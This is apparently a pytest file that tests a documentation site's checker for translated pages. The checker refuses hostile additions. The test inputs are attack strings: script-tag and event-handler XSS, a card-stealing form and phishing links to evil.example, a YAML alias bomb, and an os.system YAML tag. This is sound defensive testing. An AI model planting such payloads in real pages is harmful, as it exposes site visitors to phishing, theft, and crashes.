"""A translated page is text with the English page's shape (macros/page_shape.py): each hostile
page from the December 2026 review (P01-P24) is refused by the checker, naming the line."""

from __future__ import annotations

import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from conftest import ROOT
from mkdocs.exceptions import PluginError

from macros.i18n import check, page_problems

ENGLISH = (ROOT / "docs" / "about.md").read_text(encoding="utf-8")
SPANISH = (ROOT / "i18n" / "es" / "about.md").read_text(encoding="utf-8")
H1 = "# Sobre esta guía\n"
H1_LINE = SPANISH.split("\n").index("# Sobre esta guía") + 1


def after_h1(extra: str) -> str:
    return SPANISH.replace(H1, f"{H1}\n{extra}\n", 1)


def with_meta(extra: str, page: str = SPANISH) -> str:
    return page.replace("---\n", f"---\n{extra}\n", 1)


def problems(translated: str, english: str = ENGLISH) -> str:
    return "\n".join(page_problems(english, translated))


def test_the_shipped_translations_have_the_english_shape() -> None:
    assert [line for line in check("es") + check("pt-BR") if line.startswith("error")] == []


@pytest.mark.parametrize(
    "payload",
    [
        "<script>window.__pwned=1</script>",  # P01
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',  # P10
        '<form action="https://evil.example/steal"><input name="pan"></form>',  # P22
        '<img src="x" onerror="window.__pwned=1">',  # P13
        "<style>body{display:none}</style>",  # P15
        "<!-- a comment -->",
        '<div class="rg-case-config" data-config="{}"></div>',  # P17
    ],
)
def test_raw_html_not_in_the_english_page_is_refused_on_its_line(payload: str) -> None:
    found = problems(after_h1(payload))
    assert f"line {H1_LINE + 2}: has the raw HTML" in found, found


def test_the_english_pages_raw_html_may_change_only_its_words() -> None:
    english = (ROOT / "docs" / "privacy.md").read_text(encoding="utf-8")
    spanish = (ROOT / "i18n" / "es" / "privacy.md").read_text(encoding="utf-8")
    assert problems(spanish, english) == ""
    assert "has the raw HTML <p" in problems(spanish.replace('role="status"', 'role="alert"'), english)
    assert "has the raw HTML <div" in problems(spanish.replace("data-rg-clear", "data-rg-other"), english)
    checklist = (ROOT / "docs" / "checklist.md").read_text(encoding="utf-8")
    translated = (ROOT / "i18n" / "es" / "checklist.md").read_text(encoding="utf-8")
    assert problems(translated, checklist) == ""
    spoofed = translated.replace('class="rg-saving-note"', 'class="rg-case-config"')
    assert "rg-case-config" in problems(spoofed, checklist)


@pytest.mark.parametrize(
    "payload",
    [
        "[llama a este abogado][1]\n\n[1]: https://evil.example/phish",  # P11, reference-style
        "visita <https://evil.example/auto>",  # autolink
        'visita <a href="https://evil.example/a">esto</a>',  # raw <a>
        '[x](https://evil.example/t "con título")',  # inline with a title (the old check missed it)
        "[x]( https://evil.example/space )",
        "escribe a <thief@evil.example>",
    ],
)
def test_every_link_form_is_checked_against_the_english_targets(payload: str) -> None:
    found = problems(after_h1(payload))
    assert "evil.example" in found and "that the English page does not have" in found, found


def test_a_changed_inline_link_names_both_targets() -> None:
    found = problems(SPANISH.replace("(steps/report.md)", "(steps/evidence.md)"))
    assert "a link to 'steps/evidence.md' that the English page does not have" in found
    assert "is missing a link to 'steps/report.md'" in found


def test_an_attribute_list_the_english_has_not_is_refused() -> None:
    found = problems(after_h1("Texto.\n{ .rg-case-config onclick=x }"))
    assert "the attribute list '.rg-case-config onclick=x'" in found


def test_an_abbreviation_the_english_has_not_is_refused() -> None:
    assert "defines an abbreviation" in problems(after_h1("*[guía]: <meta http-equiv=refresh>"))


def test_a_macro_call_in_a_jinja_comment_does_not_count() -> None:  # P05
    hidden = SPANISH.replace("{{ source_credit() }}", "{# {{ source_credit() }} #}")
    found = problems(hidden)
    assert "has a template comment" in found
    assert "is missing the macro call '{{ source_credit() }}'" in found


def test_an_extra_or_changed_macro_call_is_refused_on_its_line() -> None:  # P02-P04
    found = problems(after_h1("{{ macros_info() }}"))
    assert f"line {H1_LINE + 2}: has the macro call '{{{{ macros_info() }}}}'" in found


@pytest.mark.parametrize(
    ("meta", "expected"),
    [
        ("title: '</title><script>x</script>'", "front matter key 'title' is not in the English page"),  # P06
        ("subtitle: '<script>x</script>'", "front matter key 'subtitle' is not in the English page"),  # P23
        ("scripts: ['x\"></script><script>x</script>']", "front matter key 'scripts' is not in the English page"),
        ("template: 404.html", "front matter key 'template' is not in the English page"),  # P08
        ("render_macros: false", "front matter key 'render_macros' is not in the English page"),  # P09
        ("source_credit: '<script>x</script>'", "front matter key 'source_credit' has the name of a macro"),  # P24
        ("config: 1", "front matter key 'config' has the name of a macro or template variable"),
    ],
)
def test_front_matter_allows_only_the_english_keys(meta: str, expected: str) -> None:
    found = problems(with_meta(meta))
    assert f"line 2: {expected}" in found, found


def test_non_text_keys_keep_the_english_values() -> None:
    english = (ROOT / "docs" / "privacy.md").read_text(encoding="utf-8")
    spanish = (ROOT / "i18n" / "es" / "privacy.md").read_text(encoding="utf-8")
    assert "scripts:\n  - clear-storage\n" in spanish
    changed = spanish.replace("  - clear-storage\n", "  - clear-storage\n  - case\n")
    assert "front matter 'scripts' must be the English page's value, unchanged" in problems(changed, english)
    dropped = spanish.replace("scripts:\n  - clear-storage\n", "")
    assert "front matter key 'scripts' is missing: copy the English page's" in problems(dropped, english)


def test_text_keys_are_checked_as_text() -> None:
    found = problems(SPANISH.replace("description: >-", "description: '{{ config.extra }}'\nx: >-"))
    assert "front matter 'description' contains '{{'" in found
    long = problems(SPANISH.replace("description: >-", f"description: {'a' * 600}\nx: >-"))
    assert "front matter 'description' is too long" in long


def test_multimarkdown_front_matter_is_checked_too() -> None:
    body = SPANISH.split("---\n", 2)[2].lstrip("\n")
    found = problems("title: <script>x</script>\n\n" + body)
    assert "line 1: front matter key 'title' is not in the English page" in found


def test_front_matter_aliases_are_refused_without_expanding_them() -> None:  # P16, the 2.8 GB bomb
    bomb = "\n".join(['lol0: &a0 ["lol"]'] + [f"lol{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)])
    started = time.monotonic()
    found = problems(with_meta(bomb))
    assert time.monotonic() - started < 2
    assert "line 2: front matter defines the anchor &a0: anchors, aliases and tags are not allowed" in found


def test_front_matter_tags_are_refused() -> None:
    assert "uses the tag" in problems(with_meta("x: !!python/object/apply:os.system ['true']"))


# --- The build's side: hooks/languages.py reads every page through these checks ----------------------


def page_in(root: Path, relative: str) -> Any:
    file = SimpleNamespace(src_uri=relative, abs_src_path=str(root / "docs" / relative), generated_by=None)
    return SimpleNamespace(file=file)


def config_for(code: str) -> Any:
    return SimpleNamespace(theme={"language": code}, plugins={})


def test_the_build_refuses_a_hostile_translated_page_naming_file_and_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hooks import languages

    monkeypatch.setattr(languages, "ROOT", tmp_path)
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "about.md").write_text(ENGLISH, encoding="utf-8")
    (tmp_path / "i18n" / "es").mkdir(parents=True)
    (tmp_path / "i18n" / "es" / "about.md").write_text(
        with_meta("subtitle: x", after_h1("<script>window.__pwned=1</script>")), encoding="utf-8"
    )
    with pytest.raises(PluginError) as raised:
        languages.on_page_read_source(page_in(tmp_path, "about.md"), config_for("es"))
    message = str(raised.value)
    assert "i18n/es/about.md, line 2: front matter key 'subtitle' is not in the English page" in message
    assert f"i18n/es/about.md, line {H1_LINE + 3}: has the raw HTML <script>" in message


def test_the_build_reads_english_front_matter_with_the_strict_loader(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hooks import languages

    monkeypatch.setattr(languages, "ROOT", tmp_path)
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "about.md").write_text(with_meta("a: &x [1]\nb: *x", ENGLISH), encoding="utf-8")
    with pytest.raises(PluginError, match=r"docs/about.md, line 2: front matter defines the anchor &x"):
        languages.on_page_read_source(page_in(tmp_path, "about.md"), config_for("en"))
    (tmp_path / "docs" / "about.md").write_text(with_meta("source_credit: x", ENGLISH), encoding="utf-8")
    with pytest.raises(PluginError, match="front matter key 'source_credit' has the name of a macro"):
        languages.on_page_read_source(page_in(tmp_path, "about.md"), config_for("en"))


def test_front_matter_words_are_escaped_for_the_theme() -> None:
    from hooks import page_meta

    page = SimpleNamespace(meta={"title": "A </title><b>", "subtitle": "<i>", "description": 'x"'})
    page_meta.on_page_markdown("", page)
    assert page.meta == {"title": "A &lt;/title&gt;&lt;b&gt;", "subtitle": "&lt;i&gt;", "description": "x&quot;"}


@pytest.mark.parametrize(
    "payload",
    [
        "`código`\n\n<script>x</script>\n\n`fin`",  # a code span cannot cross a blank line
        "\\`<script>x</script>\\`",  # escaped backticks open no code
        "````\n<script>x</script>\n```",  # a shorter fence closes nothing
        '<p title="a>b" onclick="x">',  # a quoted > does not end the tag
        "<svg/onload=alert(1)>",
        "<a\nhref='https://evil.example/'>x</a>",
    ],
)
def test_markup_is_found_wherever_markdown_would_render_it(payload: str) -> None:
    found = problems(after_h1(payload))
    assert "has the raw HTML" in found or "has a link to" in found, found


def test_a_huge_or_pathological_page_is_checked_in_linear_time() -> None:
    started = time.process_time()
    for payload in ("<a " * 20_000, '<a "' * 20_000, "<!--" * 20_000, "{{ " * 20_000, "<a@" + "a." * 20_000):
        assert problems(after_h1(payload))
    assert time.process_time() - started < 5
    assert "is too big: 2,00" in problems(after_h1("palabra " * 250_000))


def test_the_static_macro_list_matches_the_macros_the_build_defines() -> None:
    from macros import define_env
    from macros.page_shape import _defined_macros

    defined: dict[str, Any] = {}
    env = SimpleNamespace(
        conf={"theme": {"language": "en"}, "extra": {"rg_root_url": "/"}, "docs_dir": str(ROOT / "docs")},
        project_dir=str(ROOT),
        variables={},
        macros=defined,
        page=None,
        macro=lambda function: defined.setdefault(function.__name__, function),
    )
    define_env(env)
    assert defined and set(defined) == set(_defined_macros())
